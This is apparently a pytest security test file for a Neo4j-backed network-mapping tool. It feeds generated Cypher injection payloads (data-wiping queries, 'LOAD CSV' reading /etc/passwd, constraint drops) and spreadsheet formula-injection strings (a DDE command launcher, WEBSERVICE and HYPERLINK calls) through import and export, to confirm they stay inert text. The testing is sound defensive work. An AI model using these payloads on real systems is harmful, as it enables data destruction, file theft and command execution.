"""Text that a database or a spreadsheet might run: it is kept as text, and nothing else changes.

Every payload is generated, so the same ones come in every run. Two ways in are tried for Cypher: a workbook in which
every cell of every row is the payload, and one in which the rows make sense, so that it gets as deep as it can.
"""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import secrets
import shutil
import subprocess
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import neo4j
import openpyxl
import pytest

from netmap.errors import NetworkNotFound, UsageError
from netmap.exchange.columns import SHEETS, Cell
from netmap.exchange.writing import to_bytes, write_workbook
from netmap.model import NODE_TYPES, RELATIONSHIP_TYPES, Network, Organisation, SheetName, canonical
from netmap.services import Choices, Services
from netmap.store import embedded
from netmap.store.bolt import BoltStore
from tests.build import DAY
from tests.generator import generate

Rows = list[dict[str, str]]

# --- Cypher ----------------------------------------------------------------------------------------------------------

_OPENINGS = ("'", '"', "`", "'})", '"})', "`)", "\\'", "\\u0027", "\\u0060)", "*/", "})\n", "$network_id", "{id}", "")
_BODIES = (
    "MATCH (n) DETACH DELETE n",
    "WITH 1 AS a MATCH (s:Network) SET s.name = 'weg'",
    "CREATE (:Hacked {x: 1})",
    "CALL db.labels()",
    "CALL { MATCH (n) DETACH DELETE n } IN TRANSACTIONS",
    "LOAD CSV FROM 'file:///etc/passwd' AS l CREATE (:Leak {l: l})",
    "MATCH (o:Organisation) REMOVE o.network_id",
    "MERGE (a)-[:HACKED_TIE]->(b)",
    "SET n:Hacked:`Label`",
    "UNION MATCH (n) RETURN n",
    "FOREACH (x IN [1] | CREATE (:Hacked))",
    "DROP CONSTRAINT organisation_unique",
    "apoc.cypher.run('MATCH (n) DELETE n', {})",
    "$rows $network_id $id {{}} %s %(id)s",
    ":Hacked|Network",
)
_ENDINGS = ("//", "/*", ";", " RETURN '", "")


def cypher_payloads() -> list[str]:
    """Return 200 texts, each with a number of its own, so that they are as many names."""
    made = [f"{o} {b} {e}".strip() for e, b, o in itertools.product(_ENDINGS, _BODIES, _OPENINGS)]
    return [f"{text} #{number}" for number, text in enumerate(made[:: len(made) // 200][:200])]


CYPHER = cypher_payloads()
OWN_LABELS = {"Network", "ChangeSet", "Change", "Layout", "Ledger", "SchemaVersion"}


def all_cells(payloads: list[str]) -> dict[SheetName, Rows]:
    """Return a workbook in which every cell is a payload."""
    return {
        name: [{column.key: text for column in sheet.columns} for text in payloads] for name, sheet in SHEETS.items()
    }


def sensible(payloads: list[str]) -> dict[SheetName, Rows]:
    """Return a workbook whose rows can be loaded: names are payloads, references name them, free texts hold them."""
    themes, stages = ["burenruzie", "jongerenoverlast"], ["signaleren", "duiden", "nazorg"]
    sheets: dict[SheetName, Rows] = {name: [] for name in SHEETS if name is not SheetName.HISTORY}
    for number, text in enumerate(payloads):
        who, where = f"partij: {text}", f"overleg: {text} overleg"
        given: dict[SheetName, dict[str, str]] = {
            SheetName.ORGANISATIONS: {"name": text, "part_of": payloads[number - 1] if number % 2 else ""},
            SheetName.CONSULTATIONS: {
                "name": f"{text} overleg",
                "chair": text,
                "coordinator": text,
                "themes": themes[0],
            },
            SheetName.PARTICIPATION: {"consultation": f"{text} overleg", "organisation": text, "function": text},
            SheetName.ESCALATION: {"from": where, "to": who},
            SheetName.COVERAGE: {"who": who, "theme": themes[number % 2], "stage": stages[number % 3], "area": text},
            SheetName.EXPERTS: {"title": text, "organisation": text, "expertise": "radicalisering"},
            SheetName.AREAS: {"name": text},
            SheetName.SETTINGS: {"key": "groep", "value": "jongeren", "explanation": text},
            SheetName.WORDS: {"list": "thema", "word": text, "meaning": text, "synonyms": text},
            SheetName.NAMES: {"found": f"{text} ook", "decision": "dezelfde als", "party": text, "decided_by": text},
            SheetName.NORM: {"id": text, "off": "nee"},
        }
        if number:
            del given[SheetName.SETTINGS]  # one setting has one note
        for name, cells in given.items():
            free = [c.key for c in SHEETS[name].columns if c.cell in (Cell.TEXT, Cell.TEXTS) and not c.required]
            rest = {key: text for key in free if key not in ("id", "line")}
            sheets[name].append({key: value for key, value in {**rest, **cells}.items() if value})
    return sheets


def services(store: BoltStore) -> Services:
    ticks = itertools.count(10)
    return Services(store, today=lambda: DAY, now=lambda: f"2026-09-01T12:{next(ticks) % 60:02}:00Z", who="test")


def run(store: BoltStore, statement: str) -> list[list[Any]]:
    """Ask the database itself, past the store."""
    folder = Path(store.health.database)
    published = embedded.read_published(folder)
    assert published is not None
    password = (folder / "password").read_text(encoding="ascii").strip()
    with neo4j.GraphDatabase.driver(published.uri, auth=(published.username, password)) as driver:
        records, _, _ = driver.execute_query(statement, database_=published.database)  # type: ignore[arg-type]
        return [list(record.values()) for record in records]


def held(store: BoltStore, *, but: set[str]) -> Counter[tuple[str, str]]:
    """Return how many nodes and relationships the database holds per network and kind, some networks left out."""
    nodes = run(store, "MATCH (n) RETURN n.network_id AS network, labels(n) AS labels, count(n) AS found")
    ties = run(store, "MATCH ()-[r]->() RETURN r.network_id AS network, type(r) AS kind, count(r) AS found")
    found: Counter[tuple[str, str]] = Counter()
    for network, labels, count in nodes:
        assert len(labels) == 1, labels
        assert labels[0] in NODE_TYPES.keys() | OWN_LABELS, labels
        found[network or "", labels[0]] += count
    for network, kind, count in ties:
        assert kind in RELATIONSHIP_TYPES, kind
        found[network or "", kind] += count
    return Counter({key: count for key, count in found.items() if key[0] not in but})


@pytest.fixture
def bystander(embedded_store: BoltStore, network_id: str, tmp_path: Path) -> Iterator[str]:
    """Id of a network beside the one that is attacked."""
    path = tmp_path / "bystander.xlsx"
    path.write_bytes(write_workbook(generate(20, seed=3).sheets))
    services(embedded_store).import_workbook(path, network_id)
    (made,) = [one.id for one in services(embedded_store).networks() if one.name == network_id]
    yield made
    embedded_store.delete(made)


def test_there_are_two_hundred_different_payloads_of_every_sort() -> None:
    assert len(set(CYPHER)) == 200
    for part in (*_OPENINGS, *_BODIES, *_ENDINGS):
        assert any(part in text for text in CYPHER), part


@pytest.mark.embedded
def test_cypher_in_every_column_changes_nothing_elsewhere(
    embedded_store: BoltStore, bystander: str, tmp_path: Path
) -> None:
    use = services(embedded_store)
    attacked = {f"net-{secrets.token_hex(6)}" for _ in range(2)}
    before, counts = canonical(use.network(bystander)), held(embedded_store, but=attacked)
    log = use.changes(bystander)
    loaded = 0
    for target, sheets in zip(sorted(attacked), (all_cells(CYPHER), sensible(CYPHER)), strict=True):
        path = tmp_path / f"{target}.xlsx"
        path.write_bytes(write_workbook(sheets))
        # Made with this id, so that what it holds can be told apart.
        embedded_store.create(Network(target, target).with_records(()))
        answer = use.import_workbook(path, target, Choices(good_rows_only=True))
        loaded = answer["rows"] - answer["left_out"]
        use.check(path, target)
        use.gaps(target)
        use.export(target)
        use.undo(use.changes(target)[0]["id"], target)
    assert loaded > 1_500  # the second file gets in: names, notes, references
    assert canonical(use.network(bystander)) == before
    assert use.changes(bystander) == log
    assert held(embedded_store, but=attacked) == counts
    for target in attacked:
        embedded_store.delete(target)
    assert held(embedded_store, but=set()) == counts


@pytest.mark.embedded
def test_cypher_is_kept_to_the_letter(embedded_store: BoltStore, tmp_path: Path) -> None:
    use, network_id = services(embedded_store), f"net-{secrets.token_hex(6)}"
    path = tmp_path / "namen.xlsx"
    rows: Rows = [{"name": f"P{number}", "note": text} for number, text in enumerate(CYPHER)]
    path.write_bytes(write_workbook({SheetName.ORGANISATIONS: rows, SheetName.CONSULTATIONS: []}))
    use.import_workbook(path, network_id)
    parties = use.network(network_id).of(Organisation).values()
    assert {party.note for party in parties} == set(CYPHER)
    embedded_store.delete(use.find_network(network_id).id)


@pytest.mark.embedded
def test_cypher_as_a_name_id_or_choice_finds_nothing_and_changes_nothing(
    embedded_store: BoltStore, bystander: str
) -> None:
    use = services(embedded_store)
    before, counts = canonical(use.network(bystander)), held(embedded_store, but=set())

    def nothing(ask: Callable[[], object]) -> None:
        with pytest.raises(UsageError):
            ask()

    for text in CYPHER:
        nothing(lambda text=text: use.network(text))  # type: ignore[misc]
        nothing(lambda text=text: use.export(text))  # type: ignore[misc]
        nothing(lambda text=text: use.undo(text, bystander))  # type: ignore[misc]
        nothing(lambda text=text: use.forget_name_decision(text, bystander))  # type: ignore[misc]
        nothing(lambda text=text: use.declare_complete([text], bystander))  # type: ignore[misc]
    for text in CYPHER[::4]:  # past the use cases, so that it does reach the database
        for ask in (embedded_store.read, embedded_store.data_version, embedded_store.change_sets):
            with pytest.raises(NetworkNotFound):
                ask(text)
        with pytest.raises(NetworkNotFound):
            embedded_store.read_change_set(bystander, text)
        assert embedded_store.change_records(text) == {}
        embedded_store.delete(text)
    assert canonical(use.network(bystander)) == before
    assert held(embedded_store, but=set()) == counts


@pytest.mark.embedded
def test_cypher_as_the_name_of_a_new_network_is_a_name(
    embedded_store: BoltStore, bystander: str, tmp_path: Path
) -> None:
    use = services(embedded_store)
    before, counts = canonical(use.network(bystander)), held(embedded_store, but=set())
    path = tmp_path / "klein.xlsx"
    path.write_bytes(write_workbook({SheetName.ORGANISATIONS: [{"name": "Politie"}], SheetName.CONSULTATIONS: []}))
    made = set()
    for text in CYPHER[::20]:
        answer = use.import_workbook(path, text)
        assert answer["network"]["name"] == text
        assert re.fullmatch(r"net-[a-z0-9-]{1,64}", answer["network"]["id"])
        made.add(answer["network"]["id"])
    assert len(made) == 10
    assert canonical(use.network(bystander)) == before
    assert held(embedded_store, but=made) == counts
    for network_id in made:
        embedded_store.delete(network_id)
    assert held(embedded_store, but=set()) == counts


# --- formulas --------------------------------------------------------------------------------------------------------

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    '"=',
    "=+",
    "%=",
    "\u00a0=",
    ";=",
    "\ufeff=",
)
_FORMULAS = (
    "1+1",
    'HYPERLINK("http://x.invalid/"&A1;"klik")',
    "cmd|' /C calc'!A0",
    'SUM(A1:A9)*WEBSERVICE("http://x.invalid")',
    'DDE("soffice";"x";"y")',
)
FORMULAS = [f"{start}{formula}+{n}" for n, (start, formula) in enumerate(itertools.product(_STARTS, _FORMULAS), 1)]
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_CSV_IN = "CSV:59,34,76,1,,0,false,true,false,false,false,0,true"  # the last says: do run formulas
_CSV_OUT = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,true,false,false,-1"


@pytest.fixture(scope="module")
def exported(embedded_store: BoltStore, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
    """An Excel file and a folder of CSV files, exported from a network full of formulas; and the texts in it."""
    folder = tmp_path_factory.mktemp("formulas")
    use, name = services(embedded_store), f"net-{secrets.token_hex(6)}"
    source = folder / "in.xlsx"
    source.write_bytes(write_workbook(sensible(FORMULAS)))
    answer = use.import_workbook(source, name, Choices(good_rows_only=True))
    assert answer["rows"] - answer["left_out"] > 500
    out = folder / "out.xlsx"
    out.write_bytes(next(iter(use.export(name).files.values())))
    pages = folder / "csv"
    pages.mkdir()
    for file, content in use.export(name, csv=True).files.items():
        (pages / file).write_bytes(content)
    yield out, pages
    embedded_store.delete(use.find_network(name).id)


def test_there_are_a_hundred_formulas() -> None:
    assert len(set(FORMULAS)) == 100


@pytest.mark.embedded
def test_an_exported_workbook_has_no_formula(exported: tuple[Path, Path]) -> None:
    out, _ = exported
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    looks = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@", "＝"))]
    assert len(looks) > 200
    assert all(cell.quotePrefix for cell in looks)
    with zipfile.ZipFile(out) as archive:
        for entry in archive.namelist():
            assert b"<f>" not in archive.read(entry), entry
            assert b"<f " not in archive.read(entry), entry
            assert not entry.startswith("xl/externalLinks"), entry


@pytest.mark.embedded
def test_no_cell_of_an_exported_csv_file_begins_as_a_formula(exported: tuple[Path, Path]) -> None:
    _, pages = exported
    guarded = 0
    for path in sorted(pages.iterdir()):
        text = path.read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for cell in row:
                assert not re.match(r"\s*[=+\-@\t\r＝＋－＠]", cell), (path.name, cell)
                guarded += cell.startswith("'")
    assert guarded > 200


@pytest.fixture(scope="module")
def office() -> str:
    """The program of LibreOffice; skips without one, or fails where one is required."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        reason = "no LibreOffice: the program soffice is not there"
        if os.environ.get("NETMAP_REQUIRE_LIBREOFFICE") == "1":
            pytest.fail(reason)
        pytest.skip(reason)
    return found


def convert(office: str, folder: Path, to: str, *files: Path, reading: str = "") -> Path:
    """Open files in LibreOffice as a user would, and save them again; return the folder with the results."""
    out = folder / f"out-{secrets.token_hex(4)}"
    command = [office, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore"]
    command += [f"--infilter={reading}"] if reading else []
    command += ["--convert-to", to, "--outdir", str(out), *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)
    assert done.returncode == 0, done.stderr
    return out


def formulas_in(folder: Path) -> tuple[int, Counter[str]]:
    """Return the number of live formulas and of cells of each type in the .fods files of a folder."""
    live, types = 0, Counter[str]()
    for path in sorted(folder.glob("*.fods")):
        for cell in ElementTree.parse(path).getroot().iter(f"{_TABLE}table-cell"):
            live += cell.get(f"{_TABLE}formula") is not None
            if kind := cell.get(f"{_OFFICE}value-type"):
                types[kind] += 1
    return live, types


@pytest.mark.embedded
def test_libreoffice_finds_no_live_formula(exported: tuple[Path, Path], office: str, tmp_path: Path) -> None:
    out, pages = exported
    live, types = formulas_in(convert(office, tmp_path, "fods", out))
    assert (live, set(types)) == (0, {"string"})
    assert types["string"] > 1_000
    live, types = formulas_in(convert(office, tmp_path, "fods", *sorted(pages.glob("*.csv")), reading=_CSV_IN))
    assert live == 0
    assert types["string"] > 1_000

    shown: set[str] = set()
    for path in convert(office, tmp_path, _CSV_OUT, out).glob("*.csv"):
        content = path.read_bytes().decode("utf-8")
        shown |= {cell for row in csv.reader(io.StringIO(content, newline=""), delimiter=";") for cell in row}
    book = openpyxl.load_workbook(out, read_only=True)
    written = {str(v) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row if v}
    live_looking = {text for text in written if re.match("[=+@-]", text) and "\n" not in text}
    assert len(live_looking) > 40
    assert live_looking <= shown  # what a formula gave would be another text


@pytest.mark.embedded
def test_the_same_look_does_find_a_formula_that_is_live(office: str, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "tekst"])  # type: ignore[union-attr]
    (tmp_path / "live.xlsx").write_bytes(to_bytes(book))
    (tmp_path / "live.csv").write_text("=1+1;tekst\n", encoding="utf-8")
    assert formulas_in(convert(office, tmp_path, "fods", tmp_path / "live.xlsx"))[0] == 1
    assert formulas_in(convert(office, tmp_path, "fods", tmp_path / "live.csv", reading=_CSV_IN))[0] == 1
